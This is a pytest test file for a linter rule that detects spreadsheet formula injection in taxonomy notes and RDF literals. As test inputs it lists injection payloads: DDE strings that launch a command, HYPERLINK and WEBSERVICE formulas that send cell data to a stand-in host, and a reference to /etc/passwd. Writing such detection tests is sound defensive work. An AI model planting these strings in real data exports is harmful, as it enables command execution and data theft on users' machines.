"""Texts that a spreadsheet would run."""

from collections.abc import Callable
from pathlib import Path

import pytest
import yaml

from taxokit.lint.engine import lint_graph
from taxokit.lint.formulas import formula_in
from taxokit.lint.selection import choose_rules
from taxokit.text.diagnostics import Severity
from taxokit.text.labels import shortened

Spot = tuple[int, int, str]
Odd = Callable[..., str]
Find = Callable[[str, str], list[Spot]]
Mend = Callable[[str, str], str]

RULE = "spreadsheet-formula"


@pytest.mark.parametrize(
    ("note", "sign"),
    [
        ("'=1+1'", "="),
        ('=HYPERLINK("https://example.org")  # text to YAML', "="),
        ("'@SUM(A1:A9)'", "@"),
        ("'@media'", "@"),
        ("+cmd|' /C calc'!A0", "+"),
        ("-A1", "-"),
        ("-2+3+cmd|' /C calc'!A0", "-"),
        ("+1-1", "+"),
        ("-(1)", "-"),
        (">-\n        =A1\n        +A2", "="),
        ("＝1+1", "＝"),
        ("＠SUM(A1)", "＠"),
        ("－A1", "－"),
        ("'\"=1+1\"'", "="),
        ('"\'=1+1"', "="),
        ("\"- cmd|' /C calc'!A0\"", "-"),
        ("'+ SUM(A1)'", "+"),
        ("-.5+cmd|' /C calc'!A0", "-"),
    ],
)
def test_bad(odd: Odd, in_theme: Find, note: str, sign: str) -> None:
    message = f"the text {shortened(yaml.safe_load(note))!r} in the notes of term wind begins with {sign!r}, as a spreadsheet formula does"
    assert in_theme(RULE, odd(note=note)) == [(25, 9, message)]


@pytest.mark.parametrize(("note", "start"), [("a;=1+1", ";="), ("a;@SUM(A1)", ";@"), ("a;-cmd|' /C calc'!A0", ";-")])
def test_behind_a_delimiter(odd: Odd, in_theme: Find, note: str, start: str) -> None:
    [(_, _, message)] = in_theme(RULE, odd(note=note))
    assert message.endswith(f" has {start!r}, with which a spreadsheet formula begins")


@pytest.mark.parametrize(
    "note",
    [
        "-5 °C",
        "'-5'",
        "'-5–7 °C'",
        "'+49 30 1234567'",
        "+3 weitere",
        "'- ein Punkt'",
        "– ein Gedankenstrich",
        "E = mc²",
        "a@example.org",
        "'='",
        "'+'",
        "a; -b",
        "a;-)",
        "x;y = 1",
    ],
)
def test_good(odd: Odd, in_theme: Find, note: str) -> None:
    assert in_theme(RULE, odd(note=note)) == []


@pytest.mark.parametrize(
    "text",
    [
        "-1+-cmd|' /C calc'!A0",
        "-1%+cmd|' /C calc'!A0",
        "-1+\"\"&cmd|' /C calc'!A0",
        "-{1}+cmd|' /C calc'!A0",
        "+#N/A+cmd|' /C calc'!A0",
        "－ｃｍｄ｜＇ /C calc＇！A0",
        '+1%+HYPERLINK("http://x/?"&A1)',
        "+1+-HYPERLINK(A1)",
        '-HYPERLINK ("http://x/?"&A1)',
        '- HYPERLINK ("http://x/?"&A1)',
        '-_xlfn.WEBSERVICE("http://x")',
        '- see WEBSERVICE("http://x")',
        '-5 °C WEBSERVICE("http://x")',
        "- a+IF(1,WEBSERVICE(A1))",
        "-1+TODAY()",
        "-1+@SUM(A1)",
        "-SUM (A1)",
        "-[x.xlsx]S!A1",
        "- 'Sheet 2'!A1",
        "-'file:///etc/passwd'#$Sheet1.A1",
        "-1:9+A1",
        "-A1:B2",
        "-R1C1",
        "- A1",
        "- $A$1",
        "- A1 B2",
        "- A1+B2",
        "+-+-A1",
        "＋１＋Ａ１",
        "-1&A1",
        "-A1~WEBSERVICE(A1)",
        "-(A1)",
        '-"x"&A1',
        "-power",
        "-2+3",
        "-0044-03-15",
    ],
)
def test_signs_of_formulas(text: str) -> None:
    assert formula_in(text) == f"begins with {text[0]!r}, as a spreadsheet formula does"


@pytest.mark.parametrize(
    ("text", "start"),
    [
        ("Heim; =cmd|' /C calc'!A0", "; ="),
        ("x; =1", "; ="),
        ("x\t =1+1", "\t ="),
        ('x;""=1+1', ";="),
        ("x;-1+cmd|' /C calc'!A0", ";-"),
        ("x;'-cmd|'/C calc'!A0", ";-"),
        ("x;+HYPERLINK(A1)", ";+"),
        ('x;-HYPERLINK("a;b")', ";-"),
        ("x; -1+A1", "; -"),
        ("x; @SUM(A1)", "; @"),
        ("x; - y; +SUM(A1)", "; +"),
        ("x\n=cmd|' /C calc'!A0;", "\n="),
        ('x\r\n- y\r\n-HYPERLINK("http://x/?"&A1);', "\r -"),
    ],
)
def test_signs_behind_a_delimiter(text: str, start: str) -> None:
    assert formula_in(text) == f"has {start!r}, with which a spreadsheet formula begins"


@pytest.mark.parametrize(
    "text",
    [
        *(
            "-20 °C",
            "-20°C",
            "-5 %",
            "+5%",
            "-5 %, +3 %",
            "-1,5",
            "-1.000,50 €",
            "-5m",
            "-5 m²",
            "-$5 million",
            "-0044",
        ),
        *("+49 (30) 1234-567", "+1 (555) 123-4567", "-31.3314 138.6334", "+/- 5 %", "- 5-7 people"),
        *(
            "-ing forms",
            "-ing (suffix)",
            "-al EFL",
            "-iyor-",
            "-(i)n- und -il-",
            "-> see energy",
            "--> see",
            "---",
            "- -",
        ),
        *("- see also", "- teacher(s)", "- Attention! Read this", "- e.g. x = y", "- don't stop", "- AT&T", "- a/b"),
        *("- [Energy](https://example.org/?a=1&b=2)", "- [ ] to do", "- (see above)", '- "Energy" of X', "- p < 0.05"),
        *("- CO2 emissions", "- CO2-free", "- A4 paper", "- the methane(CH4)", "- paper (A4)", "- as of (2019)"),
        '-- From "The Guide" Richard Wagner (b. Leipzig, 1813; d. 1883) was a composer',
        *("C++; -O2 flags", "C++; -O2", "x; - y; + z", "temperature; -5 to 10", "p. 12; = Lydian", "contact; @name"),
        *("; -5 °C", "1S/CH2O3.Ca/c2-1(3)4;/h(H2,2,3,4);/q;+2/p-2", "- https://example.org/?a=1&b=2", "+ ", ";", "x;="),
        *("x\n- y\n- A1\n+ 5 °C", "x\n== y\n@z", "x\n\n--- z", "- ~5", "-~"),
    ],
)
def test_what_no_spreadsheet_computes(text: str) -> None:
    assert formula_in(text) == ""


@pytest.mark.parametrize(
    "part", ["a(", ";-", ";-a(", "\t", "\t-", '"', "'", "A1+", "A1 ", "|", "a|'", "(", "x (", "R[", "1,", "x."]
)
@pytest.mark.parametrize("start", ["", "-", "x;-"])
@pytest.mark.one_in(4)
def test_long_texts_take_linear_time(start: str, part: str) -> None:
    formula_in(start + part * 30_000)  # would take minutes


def test_behind_white_space(in_turtle: Find) -> None:
    text = 'ex:a skos:note "\\t\\r =1+1"@en .\nex:b skos:notation "=1+1" ; skos:note "b = 1"@en .\n'
    assert in_turtle(RULE, text) == [
        (1, 1, "the skos:note '\\t\\r =1+1'@en of ex:a begins with '=', as a spreadsheet formula does")
    ]


def test_behind_a_tab(in_turtle: Find) -> None:
    [(_, _, message)] = in_turtle(RULE, 'ex:a skos:note "a\\t=1"@en .\n')
    assert message.endswith(" has '\\t=', with which a spreadsheet formula begins")


def test_an_rdf_file_is_no_table(tmp_path: Path) -> None:
    path = tmp_path / "vocabulary.nt"
    note = "<http://www.w3.org/2004/02/skos/core#scopeNote>"
    path.write_text(f'<http://example.org/a> {note} "= Kloosterkerk Den Haag"@nl .', encoding="utf-8")
    assert [finding.severity for finding in lint_graph(path, choose_rules(select=[RULE]))] == [Severity.INFO]
